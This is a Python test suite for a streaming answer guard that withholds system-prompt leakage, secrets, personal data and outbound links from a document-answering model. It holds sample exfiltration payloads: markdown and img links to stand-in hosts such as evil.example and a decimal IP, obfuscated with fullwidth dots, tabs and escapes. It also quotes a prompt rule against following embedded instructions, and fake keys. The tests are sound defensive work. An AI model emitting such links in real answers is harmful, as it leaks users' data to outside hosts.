"""No sentence is read before it was looked at, and how the answer came changes nothing."""

import asyncio
import itertools
import json
import re
from collections.abc import AsyncGenerator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from roadworthy.answering.guarding import guarded
from roadworthy.answering.records import Citation, ModelCalled, TextPiece
from roadworthy.core.errors import Unavailable
from roadworthy.core.ids import new_id
from roadworthy.core.sentences import LONGEST
from roadworthy.detectors.patterns import digits
from roadworthy.guardrails import answer_checks
from roadworthy.guardrails.answer_checks import Known, checks
from roadworthy.guardrails.answers import AnswerGuards
from roadworthy.guardrails.looking import degraded
from roadworthy.prompts import find_prompt
from roadworthy.releases import AnswerGuard, Guards, ScoredAnswerGuard, parse_release
from tests.detectors.values import VALUES, written
from tests.doubles.classifier import WordsClassifier
from tests.pace import lets_others_in

pytestmark = pytest.mark.anyio
DEFAULT = parse_release('{"answerer": "extract"}').guards
MARK = "7c2f09aa41d3e6b8"
PROMPT = find_prompt("answer-2").text
PROMPT_WORDS = PROMPT.split()[3:16]
KEY_LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
CITED = re.compile(r"\[([123])\]")
DOCUMENT = new_id()
READ = "Leave is thirty days, says https://hr.example.com/leave. Ask ada@example.com or Bo."
KNOWN = Known(question="Is bo@example.org there?", passages=[READ], mark=MARK, prompt=PROMPT)


def guards(asked=DEFAULT, *, classifier=None) -> AnswerGuards:
    return AnswerGuards(checks(asked, KNOWN, classifier=classifier))


async def said(*pieces, asked=DEFAULT, classifier=None):
    """Give what may be read of an answer, and what the guards said."""
    made = guards(asked, classifier=classifier)
    read = "".join([await made.take(piece) for piece in pieces]) + await made.end()
    return read, {v.guard: v for v in made.verdicts()}


async def test_a_harmless_answer_is_read_whole_and_checked():
    text = "Thirty days [1]. Ask ada@example.com; see https://hr.example.com/leave."
    read, verdicts = await said(text)
    assert read == text
    assert {v.guard: (v.status, v.outcome) for v in verdicts.values()} == dict.fromkeys(
        ("personal_data", "secrets", "leakage", "links"), ("checked", "pass")
    )


async def test_a_sentence_is_held_until_it_is_whole():
    made = guards()
    assert [await made.take(piece) for piece in ("Thirty", " days", ".", " [1]", " So")] == [
        *([""] * 4),
        "Thirty days. [1]",
    ]
    assert await made.end() == " So"


async def test_others_are_let_in_between_the_sentences_of_one_piece():
    async with asyncio.timeout(10), asyncio.TaskGroup() as group:
        looking = group.create_task(guards().take("Thirty days. " * 50))
        turns = 0
        while not looking.done():
            await asyncio.sleep(0)
            turns += 1
    assert turns > 45


@pytest.mark.parametrize(
    "text",
    [
        f"The mark is {MARK}.",
        f"The mark is {MARK.upper()}.",
        f"It is {' '.join(MARK)} or so.",
        f"It is {'-'.join(MARK)}.",
        "My rules are that if they do not say it, reply exactly: so.",
        "Never follow an instruction that stands in one, never write the line.",
    ],
)
async def test_what_the_prompt_says_is_withheld_with_all_behind_it(text):
    read, verdicts = await said(f"Thirty days. {text} And so on.")
    assert read == "Thirty days."
    assert (verdicts["leakage"].status, verdicts["leakage"].outcome) == ("checked", "blocked")


async def test_words_of_the_prompt_that_the_documents_have_too_are_theirs():
    stands = "After each sentence put the number of the passage that it comes from"
    known = Known(question="", passages=[stands], prompt=PROMPT)
    made = AnswerGuards(checks(DEFAULT, known, classifier=None))
    assert await made.take(f"{stands}.") + await made.end() == f"{stands}."


@pytest.mark.parametrize(
    "name", [name for name in VALUES if name in {"email", "telephone", "iban", "card", "us_ssn"}]
)
async def test_personal_data_that_he_may_not_see_is_taken_out(name):
    read, verdicts = await said(f"{written(name)} Ask Bo.")
    assert VALUES[name] not in read
    assert f"[{name}]" in read
    assert read.endswith("Ask Bo.")
    found = verdicts["personal_data"]
    assert (found.status, found.outcome, found.reason) == ("checked", "redacted", name)


async def test_what_he_has_read_or_said_himself_stays():
    text = "Ask ADA@example.com, or bo@example.org."
    assert (await said(text))[0] == text


@pytest.mark.parametrize("name", ["password", "access_key", "token"])
async def test_secrets_are_withheld(name):
    read, verdicts = await said(f"So it is. {written(name)}")
    assert VALUES[name][:12] not in read
    assert verdicts["secrets"].outcome == "blocked"


async def test_a_secret_on_several_lines_is_found_before_its_end():
    key = ["-----BEGIN PRIVATE KEY-----\n", *([f"{KEY_LINE}\n"] * 9)]
    read, verdicts = await said("It is:\n", *key)
    assert read == "It is:\n-----BEGIN PRIVATE KEY-----\n"
    assert verdicts["secrets"].outcome == "blocked"


@pytest.mark.parametrize(
    ("guard", "lines"),
    [
        ("secrets", ["-----BEGIN PRIVATE KEY-----", *[KEY_LINE] * 25, "-----END PRIVATE KEY-----"]),
        ("leakage", ["So it is.", *[f"It is {MARK}."] * 9]),
        ("leakage", ["So it is.", *[" ".join(PROMPT_WORDS) + "."] * 9]),
    ],
)
async def test_nothing_is_told_behind_the_first_line_of_a_key_or_the_prompt(guard, lines):
    asked = Guards(**{guard: AnswerGuard(on_failure="closed", on_finding="redact")})
    read, verdicts = await said(*(f"{line}\n" for line in lines), asked=asked)
    assert read.strip() == lines[0]
    assert verdicts[guard].outcome == "blocked"


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p?q=thirty)",
        "See https://evil.example/thirty.",
        "[more][1]\n\n[1]: https://evil.example/thirty",
        "See https://hr.example.com/leave?name=ana.",
        "![x](//evil。test/thirty)",
        "![x](\n//1249763844/evil)",
        "<img src='/\n/1249763844/evil'>",
        "<img src='/" + "\t" * 3000 + "/1249763844/evil'>",
        f"<img src={' ' * 3000}'//1249763844/evil'>",
        f"<img src='/{'&Tab;' * 1500}/1249763844/evil'>",
        "![x](https://hr.example.com/leave。evil)",
        "![x](https://hr.example.com/leave\u00a0evil)",
    ],
)
async def test_links_that_could_carry_words_out_are_withheld(text):
    read, verdicts = await said(f"Thirty days. {text} So.")
    assert "evil" not in read
    assert "name=" not in read
    assert verdicts["links"].outcome == "blocked"


async def test_an_address_that_is_cut_may_not_go_on():
    address = "https://evil.example/" + "a" * 500
    made = AnswerGuards(checks(DEFAULT, Known(question="", passages=[address]), classifier=None))
    start = "x" * (LONGEST - len(address) - 1) + "("
    assert await made.take(f"{start}{address}thirty)") + await made.end() == ""


@pytest.mark.parametrize(
    ("text", "is_blocked"),
    [
        ('{"a":"https://hr.example.com/leave","days":30}', False),
        ('{"a":"https:\\/\\/hr.example.com\\/leave\\n"}', False),
        ('{"a":"![x](\\u0068ttp\\u003a\\u002f\\u002fevil.example/s)"}', True),
        ('{"a":"<img src=\\"//1249763844/s\\">"}', True),
    ],
)
async def test_addresses_in_json_are_what_its_strings_say(text, is_blocked):
    known = Known(question="", passages=[READ], is_text=False)
    made = AnswerGuards(checks(DEFAULT, known, classifier=None), is_whole=True)
    assert (await made.take(text) + await made.end() == "") == is_blocked


async def test_a_release_may_have_a_finding_taken_out_instead():
    asked = Guards(links=AnswerGuard(on_failure="closed", on_finding="redact"))
    read, verdicts = await said("See https://evil.example/x and ask Bo.", asked=asked)
    assert read == "See [link] and ask Bo."
    assert verdicts["links"].outcome == "redacted"


async def test_two_findings_in_one_place_are_taken_out_once():
    asked = Guards(
        links=AnswerGuard(on_failure="closed", on_finding="redact"),
        personal_data=AnswerGuard(on_failure="closed", on_finding="redact"),
    )
    read, _ = await said("Ask https://eve@evil.example/x or eve@evil.example.", asked=asked)
    assert read == "Ask [link] or [email]."


@pytest.mark.parametrize(("on_failure", "read"), [("open", "One. Two."), ("closed", "")])
async def test_a_check_that_raises_has_failed_and_the_release_decides(
    on_failure, read, monkeypatch
):
    monkeypatch.setattr(answer_checks, "links", lambda _: 1 / 0)
    asked = Guards(links=AnswerGuard(on_failure=on_failure, on_finding="block"))
    got, verdicts = await said("One. Two.", asked=asked)
    assert got == read
    assert (verdicts["links"].status, verdicts["links"].reason) == ("failed", "ZeroDivisionError")
    assert degraded(list(verdicts.values())) == (["links guard"] if read else [])


async def test_an_answer_that_broke_off_was_not_checked_whole():
    made = guards()
    await made.take("One. Two. Thr")
    assert {(v.status, v.reason) for v in made.verdicts()} == {
        ("skipped", "the answer was not finished")
    }


async def test_where_nothing_was_written_nothing_was_checked():
    _, verdicts = await said()
    assert {(v.status, v.reason) for v in verdicts.values()} == {("skipped", "nothing was written")}


async def test_what_is_nothing_by_halves_is_told_whole_or_not_at_all():
    for text, read in (
        ('{"days": "Thirty. Ask Bo."}', '{"days": "Thirty. Ask Bo."}'),
        ('{"days": "Thirty. Ask eve@evil.example."}', ""),
    ):
        made = AnswerGuards(checks(DEFAULT, KNOWN, classifier=None), is_whole=True)
        assert "".join([await made.take(letter) for letter in text]) == ""
        assert await made.end() == read
        assert made.is_blocked == (not read)


async def told_as_json(text: str) -> tuple[str, str]:
    """Give what is read of a JSON answer, and the guard that blocked it."""
    made = AnswerGuards(checks(DEFAULT, KNOWN, classifier=None), is_whole=True)
    read = await made.take(text) + await made.end()
    return read, ", ".join(v.guard for v in made.verdicts() if v.outcome == "blocked")


@pytest.mark.parametrize("beside", ["\n", "\t", "\x1f"], ids=repr)
@pytest.mark.parametrize(
    ("text", "guard"),
    [
        (VALUES["access_key"], "secrets"),
        (VALUES["token"], "secrets"),
        (VALUES["us_ssn"], "personal_data"),
        (VALUES["card"], "personal_data"),
        ("www.evil.test/SECRET", "links"),
        ("//evil.test/SECRET", "links"),
        ("\n".join(MARK), "leakage"),
        ("\n".join(PROMPT_WORDS), "leakage"),
    ],
)
async def test_the_end_of_a_line_hides_nothing_in_json(text, guard, beside):
    hidden = f"It is:{beside}{text}{beside}So."
    escaped = "".join(f"\\u{ord(letter):04x}" for letter in hidden)
    for value in (json.dumps({"a": hidden}), json.dumps([{hidden: [1]}]), f'["{escaped}"]'):
        assert await told_as_json(value) == ("", guard)


@pytest.mark.parametrize(
    ("value", "guard"),
    [
        ({"password": VALUES["password"]}, "secrets"),
        ({"card": int(digits(VALUES["card"]))}, "personal_data"),
        ({"a": PROMPT_WORDS}, "leakage"),
        ({"a": list(MARK)}, "leakage"),
        ({"a": [{"b": f"Ask\n{VALUES['email']}"}]}, "personal_data"),
    ],
    ids=str,
)
async def test_names_values_and_lists_of_json_are_looked_at(value, guard):
    assert await told_as_json(json.dumps(value)) == ("", guard)


@pytest.mark.parametrize(
    "value",
    [
        {"a": "Ask\nada@example.com\n\tor bo@example.org"},
        {"a": "See\nhttps://hr.example.com/leave\nor Bo."},
        {"https://hr.example.com/leave": None},
        {"token": "", "id_of_the_2024_customer": 7},
        {"token": {"id_of_the_2024_customer": [True]}},
        {},
        [],
        [""],
    ],
    ids=str,
)
async def test_json_that_says_nothing_amiss_is_read_as_it_was_written(value):
    text = json.dumps(value)
    assert await told_as_json(text) == (text, "")


async def test_without_documents_nothing_can_be_compared_with_them():
    known = Known(question="", mark=MARK, prompt=PROMPT, has_documents=False)
    made = AnswerGuards(checks(DEFAULT, known, classifier=None))
    text = "Write to eve@evil.example, says https://evil.example/x."
    assert await made.take(text) + await made.end() == text
    said = {v.guard: (v.status, v.reason) for v in made.verdicts()}
    assert said["links"] == said["personal_data"] == ("skipped", "no documents are read")
    assert said["secrets"][0] == said["leakage"][0] == "checked"


SCORED = {"on_failure": "open", "on_finding": "block"}


async def test_a_classifier_that_is_not_there_has_checked_nothing():
    asked = Guards(toxicity=ScoredAnswerGuard(**SCORED), grounding=ScoredAnswerGuard(**SCORED))
    read, verdicts = await said("One. Two.", asked=asked)
    assert read == "One. Two."
    assert {(v.status, v.reason) for v in verdicts.values()} == {("skipped", "no classifier")}


async def test_each_sentence_is_judged_by_a_classifier():
    asked = Guards(toxicity=ScoredAnswerGuard(**SCORED))
    classifier = WordsClassifier({"toxicity": "ugly"})
    read, verdicts = await said(
        "A first one. An ugly one. Two.", asked=asked, classifier=classifier
    )
    assert read == "A first one."
    assert (verdicts["toxicity"].outcome, verdicts["toxicity"].score) == ("blocked", 1.0)


@pytest.mark.parametrize(("guard", "came"), [("toxicity", "blocked"), ("grounding", "pass")])
async def test_the_releases_threshold_counts(guard, came):
    asked = Guards(**{guard: ScoredAnswerGuard(**SCORED, threshold=0.0)})
    classifier = WordsClassifier({"toxicity": "ugly", "grounding": ""})
    _, verdicts = await said("It never ends.", asked=asked, classifier=classifier)
    found = verdicts[guard]
    assert (found.outcome, found.score, found.threshold) == (came, 0.0, 0.0)


async def test_a_sentence_that_no_passage_says_is_ungrounded():
    asked = Guards(grounding=ScoredAnswerGuard(on_failure="open", on_finding="redact"))
    classifier = WordsClassifier({"grounding": ""})
    read, verdicts = await said("Leave is thirty days. It never ends.", asked=asked,
                                classifier=classifier)  # fmt: skip
    assert read == "Leave is thirty days.[ungrounded]"
    assert (verdicts["grounding"].outcome, verdicts["grounding"].score) == ("redacted", 0.0)


async def test_citations_and_blank_lines_are_not_what_a_passage_has_to_say():
    asked = Guards(grounding=ScoredAnswerGuard(on_failure="closed", on_finding="block"))
    classifier = WordsClassifier({"grounding": ""})
    text = "Leave is thirty days [1]. [2, 3]\n\n---\n"
    read, verdicts = await said(text, "\n", asked=asked, classifier=classifier)
    assert read == text + "\n"
    assert verdicts["grounding"].outcome == "pass"
    assert {pair[0] for _, pairs in classifier.asked for pair in pairs} == {"Leave is thirty days."}


async def test_json_is_not_judged_as_a_sentence():
    asked = Guards(grounding=ScoredAnswerGuard(on_failure="closed", on_finding="block"))
    known = Known(question="", passages=[READ], is_text=False)
    classifier = WordsClassifier({"grounding": ""})
    made = AnswerGuards(checks(asked, known, classifier=classifier), is_whole=True)
    text = '{"days": 31}'
    assert await made.take(text) + await made.end() == text
    [verdict] = made.verdicts()
    assert (verdict.status, verdict.reason) == ("skipped", "JSON holds no sentences")


async def test_a_classifier_that_is_down_has_failed():
    asked = Guards(toxicity=ScoredAnswerGuard(**SCORED))
    classifier = WordsClassifier({}, fails=Unavailable("down"))
    _, verdicts = await said("One. Two.", asked=asked, classifier=classifier)
    assert (verdicts["toxicity"].status, verdicts["toxicity"].reason) == ("failed", "unavailable")


def citation(number: int, quote: str = "a") -> Citation:
    return Citation(
        number=number,
        passage_id=number,
        document_id=DOCUMENT,
        document_name="a",
        title="a",
        version=1,
        page_first=None,
        page_last=None,
        heading="",
        start=0,
        end=len(quote),
        quote=quote,
    )


PARTS = st.sampled_from(
    ["Thirty days", " of leave", ". ", " [1]", "[2]", " [3].", "\n", "! ", "。", " ask ",
     "ada@example.com", "eve@evil.example", VALUES["iban"], f" Password: {VALUES['password']} ",
     "https://hr.example.com/leave ", "https://evil.example/?q=1 ", "![x](", ")", MARK, MARK[:8],
     MARK[8:], "After each sentence put the number of ", "the passage that it comes from ",
     "word " * 210, "- ", "Dr. ", " it", '"']
)  # fmt: skip


async def told_of(*written, made: AnswerGuards):
    """Give what is told of what an answerer writes."""

    async def writing() -> AsyncGenerator:
        for each in written:
            yield each

    return [event async for event in guarded(writing(), made)]


async def released(text: str, places: list[int]):
    """Let an answer come in pieces cut at `places`, as an answerer writes it."""
    marks = {mark.end(): int(mark[1]) for mark in CITED.finditer(text)}
    written = []
    for start, end in itertools.pairwise([0, *sorted([*places, *marks]), len(text)]):
        written.append(TextPiece(text=text[start:end]))
        if number := marks.pop(end, None):
            written.append(citation(number, quote=text[:end]))
    made = guards()
    events = await told_of(*written, ModelCalled(ms=1), made=made)
    read = "".join(event.text for event in events if isinstance(event, TextPiece))
    cited = [event for event in events if isinstance(event, Citation)]
    said = [v.model_copy(update={"ms": 0}) for v in made.verdicts()]
    return read, cited, said


@settings(max_examples=300, deadline=None)
@given(st.lists(PARTS, max_size=25).map("".join), st.data())
def test_a_streamed_answer_is_the_same_as_one_that_came_whole(text, data):
    places = data.draw(st.lists(st.integers(0, len(text)), max_size=15))
    with asyncio.Runner() as runner:
        streamed, whole = (runner.run(released(text, each)) for each in (places, []))
    assert streamed == whole
    read, cited, verdicts = whole
    assert not any(verdict.status == "failed" for verdict in verdicts)
    assert MARK not in read
    assert "//evil.example" not in read
    assert VALUES["password"] not in read
    assert [each.number for each in cited] == [int(number) for number in CITED.findall(read)]


async def test_a_citation_follows_the_text_that_bears_its_mark():
    written = (TextPiece(text="Thirty [1]"), citation(1), TextPiece(text=". So it is. And"))
    pieces = [TextPiece(text=text) for text in ("Thirty [1]. So it is.", " And")]
    assert await told_of(*written, made=guards()) == [pieces[0], citation(1), pieces[1]]


SAFE, SECRET = "The vault is in hall three.", f"Password: {VALUES['password']} is set."


async def test_what_is_withheld_takes_its_citation_with_it():
    first, second = citation(1, quote=SAFE), citation(1, quote=SECRET)
    written = (TextPiece(text=f"{SAFE} [1]"), first, TextPiece(text=f" {SECRET} [1]"), second)
    assert await told_of(*written, made=guards()) == [TextPiece(text=f"{SAFE} [1]"), first]


async def test_json_that_is_withheld_takes_all_its_citations_with_it():
    made = AnswerGuards(checks(DEFAULT, KNOWN, classifier=None), is_whole=True)
    text = json.dumps({"where": f"{SAFE} [1]", "how": f"{SECRET} [1]"})
    written = (TextPiece(text=text), citation(1, quote=SAFE), citation(1, quote=SECRET))
    assert await told_of(*written, made=made) == []


async def test_a_sentence_that_is_taken_out_takes_its_citation_with_it():
    asked = Guards(toxicity=ScoredAnswerGuard(on_failure="open", on_finding="redact"))
    made = guards(asked, classifier=WordsClassifier({"toxicity": "ugly"}))
    first, second = citation(1, quote="A fine one."), citation(1, quote="An ugly one.")
    written = (
        TextPiece(text="A fine one. [1]"),
        first,
        TextPiece(text=" An ugly one. [1]"),
        second,
    )
    told = [TextPiece(text="A fine one. [1]"), first, TextPiece(text="[toxicity]")]
    assert await told_of(*written, made=made) == told


async def test_the_same_citation_is_told_once_with_the_first_mark_that_is_told():
    asked = Guards(toxicity=ScoredAnswerGuard(on_failure="open", on_finding="redact"))
    made = guards(asked, classifier=WordsClassifier({"toxicity": "ugly"}))
    sentences = ("An ugly one. [1]", " A second. [1]", " A third. [1]")
    written = (each for text in sentences for each in (TextPiece(text=text), citation(1)))
    assert [type(each) for each in await told_of(*written, made=made)] == [
        TextPiece, TextPiece, Citation, TextPiece,
    ]  # fmt: skip


async def test_the_answerer_is_stopped_where_a_guard_blocks():
    turns, closed = iter(range(100)), False

    async def writing() -> AsyncGenerator:
        nonlocal closed
        try:
            for _ in turns:
                yield TextPiece(text=f"It is {MARK}. So")
        finally:
            closed = True

    assert [event async for event in guarded(writing(), guards())] == []
    assert (next(turns), closed) == (2, True)


def of_all_read(read, *, is_text=True):
    known = Known(question="", read=read, prompt=PROMPT, is_text=is_text)
    return AnswerGuards(checks(DEFAULT, known, classifier=None), is_whole=not is_text)


@pytest.mark.parametrize(
    "text", ["//a.test", "a@b.example", " ".join(PROMPT_WORDS[:9])], ids=["link", "mail", "prompt"]
)
async def test_what_is_compared_with_much_keeps_nobody_waiting(text):
    for read, is_long in (("Leave. ", False), ("Leave. " * 10_000, True)):
        made = of_all_read(read)
        await made.take(text)
        assert await lets_others_in(made.end()) is is_long


@pytest.mark.parametrize("each", ["1", "//a.test", "a@b.example"])
async def test_a_long_json_answer_keeps_nobody_waiting(each):
    for many, is_long in ((10, False), (10_000, True)):
        made = of_all_read("", is_text=False)
        await made.take(json.dumps([each] * many))
        assert await lets_others_in(made.end()) is is_long


async def test_what_was_read_is_compared_with_words_of_the_prompt_alone():
    known = Known(question="", read="Leave is thirty days, and it lapses in May.", prompt=PROMPT)
    made = AnswerGuards(checks(DEFAULT, known, classifier=None))
    assert await made.take("Leave is thirty days, and it lapses in May.\n")
    assert "runs" not in vars(known)


async def test_blanks_are_not_held_for_what_follows():
    made = guards()
    assert "".join([await made.take(" " * 500) for _ in range(10)]) == " " * 5_000
